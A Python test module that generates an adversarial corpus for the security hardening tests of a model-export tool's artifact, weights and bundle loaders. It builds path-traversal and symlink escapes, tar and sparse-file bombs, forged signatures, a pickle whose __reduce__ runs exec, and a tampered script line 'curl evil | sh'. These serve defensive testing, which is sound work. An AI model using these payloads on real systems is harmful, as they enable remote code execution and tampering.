"""Adversarial corpus for the hardening tests: every bad artifact, weights file and bundle is
generated here at test time (no committed binaries).

Layout of one case's world (``tmp``)::

    tmp/art/       the artifact (or tmp/w.* the weights file, tmp/bundle.tar.gz the bundle)
    tmp/outside/   files an attack points at; must be byte-identical after the refusal
    tmp/dest/      where a bundle would be extracted

Each case builder returns a :class:`Case`: ``load()`` runs the loader under test, ``match``
is a regex the one-line error must contain (it names the offending entry).
"""

from __future__ import annotations

import gzip
import hashlib
import io
import json
import os
import re
import struct
import tarfile
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

import numpy as np
import onnx
from onnx import helper, numpy_helper

from pomexport.export.artifact import MANIFEST, PORTABLE, build_manifest, write_manifest
from pomexport.models import get_preset

DATA = "model.onnx.data"
WEIGHTS = 1024  # floats in the toy initializer (4 KiB: goes to external data)

# The step contract's I/O (name, ONNX elem type, rank).
IO = {
    "inputs": [("x_t", 1, 4), ("t", 1, 1), ("label", 7, 1), ("frame_index", 7, 1)]
    + [("state", 1, 3), ("count", 1, 1)],
    "outputs": [("v", 1, 4), ("state_out", 1, 3)],
}


@dataclass(frozen=True)
class Case:
    """One corpus entry: what loads it and the error it must produce."""

    load: Callable[[], object]
    match: str


def toy_model(weights: int = WEIGHTS, rename: dict | None = None) -> onnx.ModelProto:
    """v = x_t, state_out = state with one float initializer ``w`` of ``weights`` floats, the
    static I/O dims of the ``tiny`` preset and its label table and patch projection (what the
    loader checks the manifest's config against). Those two are float_data tensors, so only
    ``w`` goes to external data."""
    from pomexport.export.artifact import io_contract

    rename = rename or {}
    cfg = get_preset("tiny")
    w = numpy_helper.from_array(np.arange(weights, dtype=np.float32), "w")
    tables = [
        helper.make_tensor(name, onnx.TensorProto.FLOAT, dims, np.zeros(int(np.prod(dims))))
        for name, dims in (
            ("model.label.weight", [cfg.num_classes + 1, cfg.width]),
            ("model.patch.proj.weight", [cfg.width, cfg.in_channels, *[cfg.patch_size] * 2]),
        )
    ]
    nodes = [
        helper.make_node("Identity", [rename.get("x_t", "x_t")], ["v"]),
        helper.make_node("Identity", ["state"], ["state_out"]),
    ]
    dims = {e["name"]: e["shape"] for es in io_contract(cfg, "float32").values() for e in es}
    inputs, outputs = (
        [
            helper.make_tensor_value_info(rename.get(n, n), dtype, dims[n])
            for n, dtype, _ in IO[kind]
        ]
        for kind in ("inputs", "outputs")
    )
    graph = helper.make_graph(nodes, "toy", inputs, outputs, initializer=[w, *tables])
    return helper.make_model(graph, opset_imports=[helper.make_opsetid("", 18)])


def manifest(name: str = "tiny") -> dict:
    return build_manifest(get_preset("tiny"), name, "fp32", ["portable"], 18, (1, 1, 4))


def write_artifact(root: Path, name: str = "tiny", model: onnx.ModelProto | None = None) -> Path:
    """A valid artifact: model.onnx with its weights in model.onnx.data, then the manifest."""
    root.mkdir(parents=True, exist_ok=True)
    model = model or toy_model()
    onnx.save_model(model, str(root / PORTABLE), save_as_external_data=True, location=DATA)
    write_manifest(root, manifest(name))
    return root


def edit_external(root: Path, **entries: str) -> None:
    """Set external-data keys (location, offset, length) of ``w``; re-hash the manifest."""
    model = onnx.load(str(root / PORTABLE), load_external_data=False)
    tensor = model.graph.initializer[0]
    current = {e.key: e.value for e in tensor.external_data}
    current.update(entries)
    del tensor.external_data[:]
    for key, value in current.items():
        tensor.external_data.add(key=key, value=str(value))
    (root / PORTABLE).write_bytes(model.SerializeToString())
    rehash(root)


def rehash(root: Path) -> None:
    """Rewrite the manifest's hashes for the files as they are now (symlinks kept listed)."""
    data = json.loads((root / MANIFEST).read_text())
    for name in data["files"]:
        path = root / name
        if path.is_file():
            digest = hashlib.sha256(path.read_bytes()).hexdigest()
            data["files"][name] = {"sha256": digest, "bytes": path.stat().st_size}
    (root / MANIFEST).write_text(json.dumps(data))


def unlist(root: Path, name: str) -> None:
    data = json.loads((root / MANIFEST).read_text())
    del data["files"][name]
    (root / MANIFEST).write_text(json.dumps(data))


def listing_add(root: Path, name: str, path: Path) -> None:
    data = json.loads((root / MANIFEST).read_text())
    digest = hashlib.sha256(path.read_bytes()).hexdigest()
    data["files"][name] = {"sha256": digest, "bytes": path.stat().st_size}
    (root / MANIFEST).write_text(json.dumps(data))


def snapshot(folder: Path) -> dict[str, tuple[int, int, str]]:
    """(size, mtime_ns, sha256) of every file under ``folder``: proof nothing changed."""
    state = {}
    for path in sorted(folder.rglob("*")):
        if path.is_file() and not path.is_symlink():
            digest = hashlib.sha256(path.read_bytes()).hexdigest()
            state[path.relative_to(folder).as_posix()] = (path.stat().st_size, 0, digest)
    return state


# -- artifacts ---------------------------------------------------------------------------------
def _art(tmp: Path) -> Path:
    return write_artifact(tmp / "art")


def _load(root: Path) -> Callable[[], object]:
    from pomexport.export.artifact import load_artifact

    return lambda: load_artifact(root)


def _move_data_outside(tmp: Path, root: Path) -> Path:
    target = tmp / "outside" / "w.bin"
    os.replace(root / DATA, target)
    return target


def ext_dotdot(tmp: Path) -> Case:
    root = _art(tmp)
    edit_external(root, location="../../x")
    return Case(_load(root), r"model\.onnx: refusing path '\.\./\.\./x'")


def ext_subdir_dotdot(tmp: Path) -> Case:
    root = _art(tmp)
    edit_external(root, location="subdir/../../x")
    return Case(_load(root), r"model\.onnx: refusing path 'subdir/\.\./\.\./x'")


def ext_absolute(tmp: Path) -> Case:
    root = _art(tmp)
    target = _move_data_outside(tmp, root)
    unlist(root, DATA)
    edit_external(root, location=str(target))
    return Case(_load(root), rf"model\.onnx: refusing path '{target}'")


def ext_symlink_final(tmp: Path) -> Case:
    root = _art(tmp)
    os.symlink(_move_data_outside(tmp, root), root / DATA)  # manifest still lists DATA
    return Case(_load(root), r"'model\.onnx\.data' leaves the artifact directory")


def ext_symlink_parent(tmp: Path) -> Case:
    root = _art(tmp)
    target = _move_data_outside(tmp, root)
    unlist(root, DATA)
    os.symlink(target.parent, root / "sub")
    edit_external(root, location="sub/w.bin")
    listing_add(root, "sub/w.bin", target)
    return Case(_load(root), r"'sub/w\.bin' leaves the artifact directory")


def ext_hard_link(tmp: Path) -> Case:
    root = _art(tmp)
    os.link(_move_data_outside(tmp, root), root / DATA)
    return Case(_load(root), r"model\.onnx\.data: has 2 hard links")


def ext_negative_offset(tmp: Path) -> Case:
    root = _art(tmp)
    edit_external(root, offset="-16")
    return Case(
        _load(root), r"model\.onnx: tensor 'w' reads bytes -16\.\..* of 'model\.onnx\.data'"
    )


def ext_length_past_end(tmp: Path) -> Case:
    root = _art(tmp)
    edit_external(root, offset="0", length=str(4 * WEIGHTS + 64))
    return Case(
        _load(root), r"model\.onnx: tensor 'w' reads bytes 0\.\.4160 of 'model\.onnx\.data'"
    )


def tampered_sha256(tmp: Path) -> Case:
    root = _art(tmp)
    data = json.loads((root / MANIFEST).read_text())
    data["files"][DATA]["sha256"] = "0" * 64
    (root / MANIFEST).write_text(json.dumps(data))
    return Case(_load(root), r"model\.onnx\.data: sha256 mismatch")


def extra_file(tmp: Path) -> Case:
    root = _art(tmp)
    (root / "plugins").mkdir()
    (root / "plugins" / "libevil.so").write_bytes(b"\x7fELF")
    return Case(_load(root), r"plugins/libevil\.so: present in .* but not listed in manifest\.json")


def missing_file(tmp: Path) -> Case:
    root = _art(tmp)
    (root / DATA).unlink()
    return Case(_load(root), r"model\.onnx\.data: listed in manifest\.json but missing")


def truncated_onnx(tmp: Path) -> Case:
    root = _art(tmp)
    raw = (root / PORTABLE).read_bytes()
    (root / PORTABLE).write_bytes(raw[: len(raw) // 2])
    rehash(root)
    return Case(_load(root), r"model\.onnx: not a readable ONNX file")


def wrong_io_contract(tmp: Path) -> Case:
    root = write_artifact(tmp / "art", model=toy_model(rename={"x_t": "image"}))
    return Case(_load(root), r"model\.onnx: graph inputs \['image', .*differ from manifest")


def _edit_config(root: Path, consistent: bool, **changes: int) -> None:
    """Change ``model.config``; ``consistent``: also rewrite ``io`` from the edited config and
    re-hash, a manifest that agrees with itself and lies only against the graph."""
    from pomexport.export.artifact import io_contract
    from pomexport.models.config import PoMDiTConfig

    data = json.loads((root / MANIFEST).read_text())
    data["model"]["config"].update(changes)
    if consistent:
        data["io"] = io_contract(PoMDiTConfig.from_dict(data["model"]["config"]), "float32")
    (root / MANIFEST).write_text(json.dumps(data))
    if consistent:
        rehash(root)


# field -> (edit, error without io rewritten, error with io rewritten and re-hashed)
_CONFIG_EDITS = {
    "width": (
        {"width": 128},
        r"manifest\.json: io state shape \[4, 'B', 384\] but .* gives \[4, 'B', 512\]",
        r"model\.onnx: state axis 2 is 384 in the graph but .*\(width\*expansion",
    ),
    "depth": (
        {"depth": 400},
        r"manifest\.json: io state shape \[4, 'B', 384\] but .* gives \[400, 'B', 384\]",
        r"model\.onnx: state axis 0 is 4 in the graph but .*\(depth\) says 400",
    ),
    "channels": (
        {"in_channels": 64},
        r"manifest\.json: io x_t shape \['B', 3, 16, 16\] but .* gives \['B', 64, 16, 16\]",
        r"model\.onnx: x_t axis 1 is 3 in the graph but .*\(in_channels\) says 64",
    ),
    "classes": (
        {"num_classes": 1000},
        r"model\.onnx: the label table is \[37, 96\] but .*says \[1001, 96\]",
        r"model\.onnx: the label table is \[37, 96\] but .*says \[1001, 96\]",
    ),
}


def _config_case(field: str, consistent: bool) -> Callable[[Path], Case]:
    changes, plain, rewritten = _CONFIG_EDITS[field]

    def build(tmp: Path) -> Case:
        root = _art(tmp)
        _edit_config(root, consistent, **changes)
        return Case(_load(root), rewritten if consistent else plain)

    build.__name__ = f"config_{field}{'_rehashed' if consistent else ''}"
    return build


CONFIG_CASES = [_config_case(f, c) for f in _CONFIG_EDITS for c in (False, True)]


def sparse_huge_file(tmp: Path) -> Case:
    """model.onnx.data replaced by a 4 GiB sparse file: refused from its size, unread."""
    root = _art(tmp)
    with open(root / DATA, "r+b") as f:
        f.truncate(4 << 30)
    return Case(_load(root), r"model\.onnx\.data: 4294967296 bytes but manifest\.json says 4096")


def symlinked_manifest(tmp: Path) -> Case:
    root = _art(tmp)
    target = tmp / "outside" / "manifest.json"
    os.replace(root / MANIFEST, target)
    os.symlink(target, root / MANIFEST)
    return Case(_load(root), r"manifest\.json: is a symlink")


def listed_symlink_inside(tmp: Path) -> Case:
    """A listed symlink to a listed file of the same artifact (the writer never makes one)."""
    root = _art(tmp)
    os.replace(root / DATA, root / "w.bin")
    os.symlink("w.bin", root / DATA)
    listing_add(root, "w.bin", root / "w.bin")
    return Case(_load(root), r"model\.onnx\.data: model\.onnx\.data is a symlink")


def manifest_too_deep(tmp: Path) -> Case:
    root = _art(tmp)
    data = json.loads((root / MANIFEST).read_text())
    nested: object = 0
    for _ in range(100):
        nested = [nested]
    data["extra"] = nested
    (root / MANIFEST).write_text(json.dumps(data))
    return Case(_load(root), r"manifest\.json: nested 102 levels deep \(limit 32\)")


def manifest_member_count(tmp: Path) -> Case:
    root = _art(tmp)
    data = json.loads((root / MANIFEST).read_text())
    for i in range(5000):
        data["files"][f"f{i}"] = {"sha256": "0" * 64, "bytes": 0}
    (root / MANIFEST).write_text(json.dumps(data))
    return Case(_load(root), r"manifest\.json: lists 5002 files \(limit 4096\)")


def _swap_after_load(tmp: Path, name: str, swap: Callable[[Path], None]) -> Case:
    """Load (hashes pass), then replace ``name`` by other bytes of the same size before ONNX
    Runtime opens the model: the session must come from what was hashed, not the path."""
    root = _art(tmp)

    def load() -> object:
        from pomexport.export.artifact import load_artifact
        from pomexport.runtime.ort_backend import OrtBackend

        artifact = load_artifact(root)
        swap(root / name)
        return OrtBackend(artifact, threads=1)

    return Case(load, rf"{re.escape(name)}: sha256 does not match")


def _flip_last_byte(path: Path) -> None:
    raw = bytearray(path.read_bytes())
    raw[-1] ^= 1
    tmp = path.with_name(path.name + ".swap")
    tmp.write_bytes(bytes(raw))
    os.replace(tmp, path)  # a new inode, as an attacker's rename would be


def swap_model_after_load(tmp: Path) -> Case:
    return _swap_after_load(tmp, PORTABLE, _flip_last_byte)


def swap_data_after_load(tmp: Path) -> Case:
    return _swap_after_load(tmp, DATA, _flip_last_byte)


def keys(tmp: Path) -> tuple[Path, Path, Path, Path]:
    """Two key pairs in tmp/keys: (a.key, a.pub, b.key, b.pub); a is the trusted one."""
    from pomexport.export.artifact.signing import keygen

    (tmp / "keys").mkdir(exist_ok=True)
    a_key, a_pub = keygen(tmp / "keys" / "a")
    b_key, b_pub = keygen(tmp / "keys" / "b")
    return a_key, a_pub, b_key, b_pub


def _load_trusting(root: Path, public: Path) -> Callable[[], object]:
    from pomexport.export.artifact import load_artifact
    from pomexport.export.artifact.signing import load_public_key

    return lambda: load_artifact(root, trusted=[load_public_key(public)])


def _tamper_rehash(root: Path) -> None:
    """What an attacker with write access does: change the weights, re-hash the manifest."""
    _flip_last_byte(root / DATA)
    rehash(root)


def art_rehashed_unsigned(tmp: Path) -> Case:
    _, a_pub, _, _ = keys(tmp)
    root = _art(tmp)
    _tamper_rehash(root)
    return Case(_load_trusting(root, a_pub), r"manifest\.json: unsigned, and 1 trusted key")


def art_signed_by_another_key(tmp: Path) -> Case:
    from pomexport.export.artifact.signing import sign_artifact

    _, a_pub, b_key, _ = keys(tmp)
    root = _art(tmp)
    _tamper_rehash(root)
    sign_artifact(root, b_key)
    return Case(_load_trusting(root, a_pub), r"manifest\.json: signed by key [0-9a-f]{16}, which")


def art_signed_then_rehashed(tmp: Path) -> Case:
    """Signed by the trusted key, then edited and re-hashed (the old manifest.sig kept)."""
    from pomexport.export.artifact.signing import sign_artifact

    a_key, a_pub, _, _ = keys(tmp)
    root = _art(tmp)
    sign_artifact(root, a_key)
    _tamper_rehash(root)
    return Case(_load_trusting(root, a_pub), r"manifest\.json: signature by key .* does not match")


# -- device.json: files built on the device (docs/design.md §6.1) -----------------------------
def _device_record(
    root: Path, name: str = "engines/x-sm87-trt10.3.0.plan", bound: str = ""
) -> None:
    """An engine and a device.json naming it, as build.sh writes them (unsigned)."""
    (root / name).parent.mkdir(parents=True, exist_ok=True)
    (root / name).write_bytes(b"plan")
    record = {
        "format": "pomexport-device-files",
        "format_version": 1,
        "manifest_sha256": bound or hashlib.sha256((root / MANIFEST).read_bytes()).hexdigest(),
        "files": {name: {"sha256": hashlib.sha256(b"plan").hexdigest(), "bytes": 4}},
    }
    (root / "device.json").write_text(json.dumps(record))


def device_record_unsigned(tmp: Path) -> Case:
    """A signed artifact plus an unsigned device.json naming native code: refused with keys."""
    from pomexport.export.artifact.signing import sign_artifact

    a_key, a_pub, _, _ = keys(tmp)
    root = _art(tmp)
    sign_artifact(root, a_key)
    _device_record(root)
    return Case(_load_trusting(root, a_pub), r"device\.json: unsigned, and 1 trusted key")


def device_record_for_another_manifest(tmp: Path) -> Case:
    root = _art(tmp)
    _device_record(root, bound="0" * 64)
    return Case(_load(root), r"device\.json: records files built for another manifest\.json")


def device_record_replaces_shipped(tmp: Path) -> Case:
    """device.json may add device-built files, never replace one the manifest ships."""
    root = _art(tmp)
    (root / "timing.cache").write_bytes(b"shipped")
    listing_add(root, "timing.cache", root / "timing.cache")
    _device_record(root, name="timing.cache")
    return Case(_load(root), r"device\.json: 'timing\.cache' is already listed in manifest\.json")


def device_record_names_the_model(tmp: Path) -> Case:
    root = _art(tmp)
    _device_record(root, name="model.onnx")
    return Case(_load(root), r"device\.json: may list only plugins/\*\.so, engines/\*\.plan")


def _device_build(tmp: Path, device_key_index: int) -> tuple[Path, Path]:
    """A packager-signed artifact and an engine recorded by the Python builder's recording
    step (``record_device_files``), signed with key pair ``device_key_index`` (0: a, 2: b).
    Returns (root, the trusted public key a)."""
    from pomexport.export.artifact.device import record_device_files
    from pomexport.export.artifact.signing import sign_artifact

    pairs = keys(tmp)
    root = _art(tmp)
    sign_artifact(root, pairs[0])
    plan = {"engines/x-sm87-trt10.3.0.plan": b"plan"}
    record_device_files(root, plan, trusted=[], device_key=pairs[device_key_index])
    return root, pairs[1]


def device_build_by_untrusted_device_key(tmp: Path) -> Case:
    root, a_pub = _device_build(tmp, 2)
    return Case(_load_trusting(root, a_pub), r"device\.json: signed by key [0-9a-f]{16}, which")


def device_build_swapped_and_rehashed(tmp: Path) -> Case:
    """Signed by the trusted device key, then the plan swapped and device.json re-hashed."""
    root, a_pub = _device_build(tmp, 0)
    name = "engines/x-sm87-trt10.3.0.plan"
    (root / name).write_bytes(b"evil")
    record = json.loads((root / "device.json").read_text())
    record["files"][name]["sha256"] = hashlib.sha256(b"evil").hexdigest()
    (root / "device.json").write_text(json.dumps(record, indent=2) + "\n")
    return Case(_load_trusting(root, a_pub), r"device\.json: signature by key .* does not match")


# -- weights -----------------------------------------------------------------------------------
def _weights(path: Path) -> Callable[[], object]:
    from pomexport.models.weights import load_weights

    return lambda: load_weights(path)


def _safetensors(path: Path, header: dict, data: bytes) -> Path:
    raw = json.dumps(header).encode()
    path.write_bytes(struct.pack("<Q", len(raw)) + raw + data)
    return path


def st_header_2_63(tmp: Path) -> Case:
    path = tmp / "huge.safetensors"
    path.write_bytes(struct.pack("<Q", 2**63) + b"{}")
    return Case(_weights(path), r"cannot read weights huge\.safetensors: .*header too large")


def st_overlapping_offsets(tmp: Path) -> Case:
    header = {
        "a": {"dtype": "F32", "shape": [4], "data_offsets": [0, 16]},
        "b": {"dtype": "F32", "shape": [4], "data_offsets": [8, 24]},
    }
    path = _safetensors(tmp / "overlap.safetensors", header, bytes(24))
    return Case(_weights(path), r"overlap\.safetensors: .*invalid offset for tensor `b`")


def st_nan_weights(tmp: Path) -> Case:
    import torch
    from safetensors.torch import save_file

    path = tmp / "nan.safetensors"
    save_file({"ok": torch.ones(3), "bad": torch.tensor([1.0, float("nan")])}, str(path))
    return Case(_weights(path), r"nan\.safetensors: tensor 'bad' holds NaN or inf")


class _Canary:
    """Pickles to ``exec(...)`` that writes the canary file when unpickled."""

    def __init__(self, path: Path) -> None:
        self.path = path

    def __reduce__(self):
        return (exec, (f"open({str(self.path)!r}, 'w').write('pwned')",))


def canary_path(tmp: Path) -> Path:
    return tmp / "outside" / "canary"


def pt_pickle_canary(tmp: Path) -> Case:
    import torch

    path = tmp / "evil.pt"
    torch.save({"w": torch.zeros(2), "payload": _Canary(canary_path(tmp))}, path)
    return Case(_weights(path), r"refusing evil\.pt: not a weights-only checkpoint")


# -- bundles -----------------------------------------------------------------------------------
def _bundle(tmp: Path, extra: list[tuple[tarfile.TarInfo, bytes | None]]) -> Callable:
    """A bundle whose listing is valid for its one regular file; ``extra`` members after it."""
    from pomexport.export.bundle import BUNDLE_MANIFEST, FORMAT, FORMAT_VERSION
    from pomexport.export.bundle_check import verify_bundle

    body = b"hello\n"
    files = {"README.md": {"sha256": hashlib.sha256(body).hexdigest(), "bytes": len(body)}}
    listing = {"format": FORMAT, "format_version": FORMAT_VERSION, "files": files}
    members = [(_info("README.md"), body), (_info(BUNDLE_MANIFEST), json.dumps(listing).encode())]
    path = tmp / "bundle.tar.gz"
    with tarfile.open(path, "w:gz", format=tarfile.PAX_FORMAT) as tar:
        for info, data in members + extra:
            if data is not None:
                info.size = len(data)
            tar.addfile(info, io.BytesIO(data) if data is not None else None)
    return lambda: verify_bundle(path, extract=tmp / "dest")


def _info(name: str, kind: bytes = tarfile.REGTYPE, link: str = "") -> tarfile.TarInfo:
    info = tarfile.TarInfo(name)
    info.type, info.linkname, info.mode = kind, link, 0o644
    return info


def tar_dotdot(tmp: Path) -> Case:
    load = _bundle(tmp, [(_info("../outside/evil"), b"x")])
    return Case(load, r"member '\.\./outside/evil' refused: '\.\.' component")


def tar_absolute(tmp: Path) -> Case:
    target = str(tmp / "outside" / "evil")
    load = _bundle(tmp, [(_info(target), b"x")])
    return Case(load, rf"member '{target}' refused: absolute path")


def tar_symlink_outside(tmp: Path) -> Case:
    link = _info("link", tarfile.SYMTYPE, str(tmp / "outside"))
    load = _bundle(tmp, [(link, None), (_info("link/evil"), b"x")])
    return Case(load, r"member 'link' refused: a symlink")


def tar_hard_link_outside(tmp: Path) -> Case:
    link = _info("hard", tarfile.LNKTYPE, "../outside/w.bin")
    load = _bundle(tmp, [(link, None)])
    return Case(load, r"member 'hard' refused: a hard link")


def tar_device_node(tmp: Path) -> Case:
    dev = _info("null", tarfile.CHRTYPE)
    dev.devmajor, dev.devminor = 1, 3
    load = _bundle(tmp, [(dev, None)])
    return Case(load, r"member 'null' refused: a device node")


def tar_member_count_bomb(tmp: Path) -> Case:
    """5,000 empty members: refused at the 4,097th header, before bundle.json is read."""
    load = _bundle(tmp, [(_info(f"e{i}"), b"") for i in range(5000)])
    return Case(load, r"bundle\.tar\.gz: more than 4096 members \(limit\)")


def tar_size_bomb(tmp: Path) -> Case:
    """A member whose header declares 1 TiB (the data is not there: only the header is read)."""
    from pomexport.export.bundle_check import verify_bundle

    bomb = _info("huge.bin")
    bomb.size = 1 << 40
    path = tmp / "bundle.tar.gz"
    with gzip.open(path, "wb") as f:
        f.write(bomb.tobuf(tarfile.PAX_FORMAT) + bytes(1024))
    return Case(
        lambda: verify_bundle(path, extract=tmp / "dest"),
        r"bundle\.tar\.gz: 'huge\.bin' is 1099511627776 bytes \(limit \d+ per file\)",
    )


def _signed_bundle(tmp: Path, sign: Path | None, trust: Path, tamper: bool) -> Callable:
    """The minimal bundle (README.md + bundle.json), optionally signed with ``sign``; with
    ``tamper`` README.md is changed and bundle.json re-hashed after signing (as an edited
    build.sh would be). Verified trusting ``trust``."""
    from pomexport.export.artifact.signing import (
        BUNDLE_SIGNATURE,
        load_private_key,
        load_public_key,
        signature_document,
    )
    from pomexport.export.bundle import BUNDLE_MANIFEST, FORMAT, FORMAT_VERSION
    from pomexport.export.bundle_check import verify_bundle

    def listing(body: bytes) -> bytes:
        files = {"README.md": {"sha256": hashlib.sha256(body).hexdigest(), "bytes": len(body)}}
        doc = {"format": FORMAT, "format_version": FORMAT_VERSION, "files": files}
        return json.dumps(doc).encode()

    body = b"#!/bin/sh\necho build\n"
    signed = listing(body)
    members = [("README.md", b"#!/bin/sh\ncurl evil | sh\n" if tamper else body)]
    members.append((BUNDLE_MANIFEST, listing(members[0][1])))
    if sign is not None:
        members.append((BUNDLE_SIGNATURE, signature_document(signed, load_private_key(sign))))
    path = tmp / "bundle.tar.gz"
    with tarfile.open(path, "w:gz", format=tarfile.PAX_FORMAT) as tar:
        for name, data in members:
            info = _info(name)
            info.size = len(data)
            tar.addfile(info, io.BytesIO(data))
    key = load_public_key(trust)
    return lambda: verify_bundle(path, extract=tmp / "dest", trusted=[key])


def bundle_rehashed_unsigned(tmp: Path) -> Case:
    _, a_pub, _, _ = keys(tmp)
    load = _signed_bundle(tmp, None, a_pub, tamper=True)
    return Case(load, r"bundle\.tar\.gz: bundle\.json: unsigned, and 1 trusted key")


def bundle_signed_by_another_key(tmp: Path) -> Case:
    _, a_pub, b_key, _ = keys(tmp)
    load = _signed_bundle(tmp, b_key, a_pub, tamper=False)
    return Case(load, r"bundle\.json: signed by key [0-9a-f]{16}, which is not a trusted key")


def bundle_signed_then_rehashed(tmp: Path) -> Case:
    a_key, a_pub, _, _ = keys(tmp)
    load = _signed_bundle(tmp, a_key, a_pub, tamper=True)
    return Case(load, r"bundle\.json: signature by key [0-9a-f]{16} does not match")


ARTIFACT_CASES = {
    f.__name__: f
    for f in (
        ext_dotdot,
        ext_subdir_dotdot,
        ext_absolute,
        ext_symlink_final,
        ext_symlink_parent,
        ext_hard_link,
        ext_negative_offset,
        ext_length_past_end,
        tampered_sha256,
        extra_file,
        missing_file,
        truncated_onnx,
        wrong_io_contract,
        *CONFIG_CASES,
        sparse_huge_file,
        symlinked_manifest,
        listed_symlink_inside,
        manifest_too_deep,
        manifest_member_count,
        swap_model_after_load,
        swap_data_after_load,
        art_rehashed_unsigned,
        art_signed_by_another_key,
        art_signed_then_rehashed,
        device_record_unsigned,
        device_record_for_another_manifest,
        device_record_replaces_shipped,
        device_record_names_the_model,
        device_build_by_untrusted_device_key,
        device_build_swapped_and_rehashed,
    )
}
WEIGHTS_CASES = {
    f.__name__: f
    for f in (st_header_2_63, st_overlapping_offsets, st_nan_weights, pt_pickle_canary)
}
BUNDLE_CASES = {
    f.__name__: f
    for f in (
        tar_dotdot,
        tar_absolute,
        tar_symlink_outside,
        tar_hard_link_outside,
        tar_device_node,
        tar_member_count_bomb,
        tar_size_bomb,
        bundle_rehashed_unsigned,
        bundle_signed_by_another_key,
        bundle_signed_then_rehashed,
    )
}
ALL_CASES = {**ARTIFACT_CASES, **WEIGHTS_CASES, **BUNDLE_CASES}


def world(tmp: Path) -> Path:
    """Create tmp/outside with a file attacks aim at; return tmp."""
    (tmp / "outside").mkdir(parents=True, exist_ok=True)
    (tmp / "outside" / "keep.txt").write_text("must stay as it is\n")
    return tmp
